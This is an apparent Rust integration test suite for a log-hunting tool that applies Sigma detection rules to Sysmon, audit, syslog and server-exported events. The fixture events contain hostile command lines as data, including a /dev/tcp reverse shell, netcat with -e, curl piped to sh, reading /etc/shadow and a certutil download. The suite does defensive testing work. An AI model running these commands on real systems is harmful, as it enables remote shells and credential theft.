//! `watchpost rules check`, `watchpost hunt` and `watchpost eval sigma-regression` end to
//! end, with the bad input a responder meets: broken rules, truncated EVTX files, binary
//! files, missing paths. Tests that need the shared corpus (real EVTX files) skip without
//! it locally and fail under CI=true.

mod common;

use common::run;
use std::path::{Path, PathBuf};

fn text(out: &[u8]) -> String {
    String::from_utf8_lossy(out).into_owned()
}

const CERTUTIL_RULE: &str = r#"title: Certutil Download
id: 7c9cf6a7-0000-4000-8000-000000000001
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains|all: ['urlcache', 'http']
  condition: selection
"#;

fn rules_dir(dir: &Path) -> PathBuf {
    let rules = dir.join("rules");
    std::fs::create_dir_all(rules.join("sub")).unwrap();
    std::fs::write(rules.join("certutil.yml"), CERTUTIL_RULE).unwrap();
    std::fs::write(rules.join("sub/broken.yml"), "title: [unclosed\n").unwrap();
    std::fs::write(
        rules.join("sub/bad_modifier.yml"),
        "title: x\nid: x\nlogsource: {product: windows}\ndetection:\n  sel:\n    Image|sometimes: a\n  condition: sel\n",
    )
    .unwrap();
    rules
}

/// One Sysmon process creation rendered the way EVTX-to-JSON tools write it.
fn sysmon_event(record: u64, command_line: &str) -> String {
    serde_json::json!({"Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws-7",
                   "EventRecordID": record, "TimeCreated": {"#attributes": {"SystemTime": "2026-11-20T08:00:00.000Z"}},
                   "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}},
        "EventData": {"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": command_line}
    }})
    .to_string()
}

#[test]
fn rules_check_reports_every_failure_with_its_reason() {
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_dir(dir.path());
    let out = run(
        dir.path(),
        &["rules", "check", rules.to_str().unwrap(), "--json"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (report["files"].as_u64(), report["loaded"].as_u64()),
        (Some(3), Some(1))
    );
    let reasons: Vec<&str> = report["failed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["reason"].as_str().unwrap())
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r
                .contains("bad_modifier.yml:6: detection.sel.Image|sometimes: unknown modifier")),
        "{reasons:?}"
    );
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("broken.yml") && r.contains("invalid YAML")),
        "{reasons:?}"
    );
    let out = run(
        dir.path(),
        &[
            "rules",
            "check",
            rules.to_str().unwrap(),
            "--min-coverage",
            "50",
        ],
    );
    assert!(!out.status.success(), "1 of 3 is below 50 %");
}

#[test]
fn hunt_reads_json_lines_reports_bad_files_and_writes_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_dir(dir.path());
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    let lines = [
        sysmon_event(
            41,
            "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
        ),
        "{not json".to_string(),
        sysmon_event(42, "certutil -encode a.txt b.txt"),
    ];
    std::fs::write(logs.join("sysmon.jsonl"), lines.join("\n")).unwrap();
    std::fs::write(logs.join("garbage.json"), [0u8, 159, 146, 150, 255, 0, 1]).unwrap();

    let csv = dir.path().join("out.csv");
    let out = run(
        dir.path(),
        &[
            "hunt",
            logs.to_str().unwrap(),
            "missing-folder",
            "--rules",
            rules.to_str().unwrap(),
            "--format",
            "csv",
            "-o",
            csv.to_str().unwrap(),
        ],
    );
    assert!(
        out.status.success(),
        "bad input is reported, never fatal: {}",
        text(&out.stderr)
    );
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("sysmon.jsonl: line 2: invalid JSON"),
        "{stderr}"
    );
    assert!(
        stderr.contains("garbage.json: line 1: not UTF-8 text"),
        "{stderr}"
    );
    assert!(
        stderr.contains("missing-folder: no such file or folder"),
        "{stderr}"
    );
    assert!(
        stderr.contains("Command and Control"),
        "summary by tactic: {stderr}"
    );
    let written = std::fs::read_to_string(&csv).unwrap();
    let rows: Vec<&str> = written.lines().collect();
    assert_eq!(
        rows[0],
        "timestamp,rule_id,rule_title,level,tags,file,record_id,computer,fields"
    );
    assert_eq!(rows.len(), 2, "{written}");
    assert!(rows[1].starts_with(
        "2026-11-20T08:00:00.000Z,7c9cf6a7-0000-4000-8000-000000000001,Certutil Download,high,"
    ));
    assert!(
        rows[1].contains(",41,ws-7,") && rows[1].contains("CommandLine=certutil -urlcache"),
        "{}",
        rows[1]
    );

    let out = run(
        dir.path(),
        &[
            "hunt",
            logs.to_str().unwrap(),
            "--rules",
            rules.to_str().unwrap(),
            "--format",
            "jsonl",
        ],
    );
    let row: serde_json::Value =
        serde_json::from_str(text(&out.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(row["record_id"], 41);
    assert_eq!(row["tags"][1], "attack.t1105");
    assert_eq!(
        row["fields"]["Image"],
        "C:\\Windows\\System32\\certutil.exe"
    );

    let out = run(
        dir.path(),
        &[
            "hunt",
            logs.to_str().unwrap(),
            "--rules",
            rules.to_str().unwrap(),
            "--format",
            "json",
            "--min-level",
            "critical",
        ],
    );
    assert_eq!(text(&out.stdout).trim(), "[]");
    let out = run(
        dir.path(),
        &[
            "hunt",
            logs.to_str().unwrap(),
            "--rules",
            rules.to_str().unwrap(),
            "--format",
            "json",
            "--from",
            "2026-11-21T00:00:00Z",
        ],
    );
    assert_eq!(text(&out.stdout).trim(), "[]");
}

/// The shared corpus, or `None` (skip) when it is absent outside CI.
fn corpus() -> Option<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus");
    if path.is_dir() {
        return Some(path);
    }
    assert!(
        std::env::var("CI").is_err(),
        "../shared/corpus is missing under CI"
    );
    eprintln!("skipped: ../shared/corpus is not beside the checkout");
    None
}

#[test]
fn a_truncated_evtx_file_is_read_as_far_as_it_goes() {
    let Some(corpus) = corpus() else { return };
    let dir = tempfile::tempdir().unwrap();
    let source = corpus.join("evtx/Command_and_Control/bits_openvpn.evtx");
    let bytes = std::fs::read(&source).unwrap();
    // The 4 KiB file header, one whole 64 KiB chunk, and half of the next.
    let cut = (4096 + 65536 + 32768).min(bytes.len() - 1);
    std::fs::write(dir.path().join("cut.evtx"), &bytes[..cut]).unwrap();
    std::fs::write(dir.path().join("not-evtx.evtx"), b"plain text, not a log").unwrap();
    let out = run(
        dir.path(),
        &[
            "hunt",
            ".",
            "--rules",
            dir.path().to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("not-evtx.evtx: not an EVTX file"),
        "{stderr}"
    );
    let events: u64 = stderr
        .lines()
        .find_map(|l| l.split(" events from ").next().and_then(|n| n.parse().ok()))
        .unwrap_or_else(|| panic!("{stderr}"));
    assert!(events > 0, "the records before the cut are read: {stderr}");
}

#[test]
fn sigma_regression_cases_pass_on_a_copy_of_one_case() {
    let Some(corpus) = corpus() else { return };
    let dir = tempfile::tempdir().unwrap();
    let case = "regression_data/rules/windows/process_creation/proc_creation_win_susp_cross_user_process_spawn";
    let rule = "rules/windows/process_creation/proc_creation_win_susp_cross_user_process_spawn.yml";
    for rel in [case, "rules/windows/process_creation"] {
        std::fs::create_dir_all(dir.path().join(rel)).unwrap();
    }
    for entry in std::fs::read_dir(corpus.join("sigma").join(case))
        .unwrap()
        .flatten()
    {
        std::fs::copy(entry.path(), dir.path().join(case).join(entry.file_name())).unwrap();
    }
    std::fs::copy(corpus.join("sigma").join(rule), dir.path().join(rule)).unwrap();
    let out = run(
        dir.path(),
        &[
            "eval",
            "sigma-regression",
            dir.path().to_str().unwrap(),
            "--json",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let last = text(&out.stdout).lines().last().unwrap().to_string();
    assert_eq!(last, r#"{"cases":1,"passed":1}"#, "{}", text(&out.stdout));
}

#[test]
fn hunt_reads_audit_and_syslog_files_and_correlates_across_files() {
    let Some(corpus) = corpus() else { return };
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(logs.join("audit")).unwrap();
    std::fs::copy(
        corpus.join("auditd/laurel-testdata/record-perl-reverse-shell.txt"),
        logs.join("audit/audit.log"),
    )
    .unwrap();
    // Password guessing against web-1, split over two rotated files, and one sudo line.
    let failed = |minute: u32, second: u32| {
        format!(
            "Nov 22 09:{minute:02}:{second:02} web-1 sshd[9{second}]: Failed password for root from 203.0.113.9 port 4{second} ssh2\n"
        )
    };
    std::fs::write(
        logs.join("auth.log.1"),
        [failed(0, 1), failed(0, 7), failed(0, 30)].concat(),
    )
    .unwrap();
    std::fs::write(
        logs.join("auth.log"),
        [
            failed(0, 45),
            failed(0, 50),
            "Nov 22 09:01:10 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/sh\n".into(),
            failed(9, 0),
        ]
        .concat(),
    )
    .unwrap();
    std::fs::write(logs.join("auth.log.2.gz"), [0x1f, 0x8b, 0, 0]).unwrap();
    let notes = dir.path().join("notes.txt");
    std::fs::write(&notes, "remember to rotate the keys\n").unwrap();

    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    for rule in [
        "rules/linux/process_creation/proc_creation_lnx_perl_reverse_shell.yml",
        "rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml",
    ] {
        let source = corpus.join("sigma").join(rule);
        std::fs::copy(&source, rules.join(source.file_name().unwrap())).unwrap();
    }
    std::fs::write(
        rules.join("ssh_guessing.yml"),
        r#"
title: SSH password guessing
id: eeeeeeee-0000-4000-8000-00000000000c
level: high
tags: [attack.credential-access, attack.t1110.001]
correlation:
  type: event_count
  rules: [ssh_failed_password]
  group-by: [host]
  timespan: 1m
  condition: {gte: 5}
---
title: SSH failed password
id: eeeeeeee-0000-4000-8000-000000000001
name: ssh_failed_password
logsource: {product: linux, service: sshd}
detection:
  keywords: ['Failed password for']
  condition: keywords
"#,
    )
    .unwrap();

    let out = run(
        dir.path(),
        &[
            "hunt",
            logs.to_str().unwrap(),
            notes.to_str().unwrap(),
            "--rules",
            rules.to_str().unwrap(),
            "--format",
            "jsonl",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("notes.txt: not a recognised log format"),
        "{stderr}"
    );
    assert!(
        !stderr.contains("auth.log.2.gz"),
        "compressed files are left alone: {stderr}"
    );
    let rows: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let titles: Vec<&str> = rows
        .iter()
        .map(|r| r["rule_title"].as_str().unwrap())
        .collect();
    assert_eq!(rows.len(), 3, "{titles:?}");
    let by_title = |t: &str| {
        rows.iter()
            .find(|r| r["rule_title"].as_str().unwrap().contains(t))
            .unwrap_or_else(|| panic!("no {t} in {titles:?}"))
    };
    let perl = by_title("Perl Reverse Shell");
    assert!(perl["file"].as_str().unwrap().ends_with("audit/audit.log"));
    assert_eq!(perl["record_id"], 1);
    assert_eq!(perl["timestamp"], "2021-07-18T12:29:23.720Z");
    let sudo = by_title("Sudo");
    assert!(sudo["file"].as_str().unwrap().ends_with("/auth.log"));
    assert_eq!(
        (sudo["record_id"].as_u64(), sudo["computer"].as_str()),
        (Some(3), Some("web-1"))
    );
    // Five failures within a minute, across the two files; the base rule itself is silent.
    let guessing = by_title("SSH password guessing");
    assert_eq!(guessing["fields"]["host"], "web-1");
    assert_eq!(guessing["fields"]["correlation.count"], "5");
    assert_eq!(
        guessing["fields"]["correlation.first"],
        format!("{}-11-22T09:00:01.000Z", year_of(&logs.join("auth.log")))
    );
    assert_eq!(
        guessing["record_id"], 2,
        "the fifth failure is line 2 of auth.log"
    );
    assert!(guessing["file"].as_str().unwrap().ends_with("/auth.log"));
}

/// The year syslog lines in `path` are read in (the file's modification year, or the one
/// before for a later month).
fn year_of(path: &Path) -> i32 {
    use chrono::Datelike;
    let modified: chrono::DateTime<chrono::Utc> =
        std::fs::metadata(path).unwrap().modified().unwrap().into();
    if modified.month() < 11 {
        modified.year() - 1
    } else {
        modified.year()
    }
}

/// One process exec the way the agent ships it.
fn exec_event(n: u32, executable: &str, command_line: &str, user: &str) -> serde_json::Value {
    serde_json::json!({
        "@timestamp": format!("2026-12-08T09:00:{:02}.000Z", n % 60),
        "event": {"kind": "event", "category": ["process"], "action": "exec",
                  "module": "agent", "dataset": "process.exec"},
        "host": {"name": "web-1"},
        "user": {"name": user, "id": if user == "root" { "0" } else { "33" }},
        "process": {
            "pid": 4000 + n, "name": executable.rsplit('/').next().unwrap(),
            "executable": executable, "command_line": command_line,
            "args": command_line.split(' ').collect::<Vec<_>>(),
            "user": {"name": user, "id": if user == "root" { "0" } else { "33" }},
            "real_user": {"name": user, "id": if user == "root" { "0" } else { "33" }},
            "parent": {"pid": 3000 + n, "name": "bash", "executable": "/usr/bin/bash",
                       "command_line": "-bash"}
        }
    })
}

/// The verdicts `watchpost hunt` gives over events exported from the server are the
/// verdicts the server gave when the same events were posted: one rule set, one view of
/// an event.
#[tokio::test]
async fn hunt_over_an_export_of_the_server_gives_its_verdicts() {
    use common::{Server, eventually, get_json, http};
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let http = http();
    let commands = [
        (
            "/usr/bin/bash",
            "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "root",
        ),
        (
            "/usr/bin/sh",
            "sh -c curl -s http://198.51.100.7/x.sh | sh",
            "www-data",
        ),
        ("/usr/bin/cat", "cat /etc/shadow", "www-data"),
        ("/usr/bin/base64", "base64 -d /tmp/p | sh", "root"),
        ("/usr/bin/crontab", "crontab /tmp/cron", "www-data"),
        ("/usr/bin/ls", "ls -la /var/www", "www-data"),
        ("/usr/bin/git", "git status", "root"),
        ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444", "root"),
    ];
    let events: Vec<serde_json::Value> = commands
        .iter()
        .enumerate()
        .map(|(i, (exe, cmd, user))| exec_event(i as u32, exe, cmd, user))
        .collect();
    let posted = http
        .post(server.url("/api/v1/events"))
        .json(&events)
        .send()
        .await
        .unwrap();
    assert!(posted.status().is_success(), "{}", posted.status());
    // What the server found: the rules that matched.
    let live = || async {
        let body = get_json(&http, server.url("/api/v1/detections?limit=500")).await;
        body["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|d| d["detector"] == "sigma")
            .map(|d| d["rule_id"].as_str().unwrap().to_string())
            .collect::<std::collections::BTreeSet<String>>()
    };
    eventually("the server's detections", || async {
        live().await.len() >= 4
    })
    .await;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let live_rules = live().await;

    // The export: the events API, written out as JSON lines.
    let exported = get_json(&http, server.url("/api/v1/events?limit=1000")).await;
    let items = exported["items"].as_array().expect("events");
    assert_eq!(items.len(), commands.len(), "{exported}");
    let lines: Vec<String> = items.iter().map(|e| e.to_string()).collect();
    let export = dir.path().join("export.jsonl");
    std::fs::write(&export, lines.join("\n")).unwrap();
    let builtin = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/builtin");
    let out = run(
        dir.path(),
        &[
            "hunt",
            export.to_str().unwrap(),
            "--rules",
            builtin.to_str().unwrap(),
            "--format",
            "jsonl",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let hunted: std::collections::BTreeSet<String> = text(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|row| row["rule_id"].as_str().map(str::to_string))
        .collect();
    assert!(!live_rules.is_empty());
    assert_eq!(hunted, live_rules, "hunt and the live pipeline disagree");
}
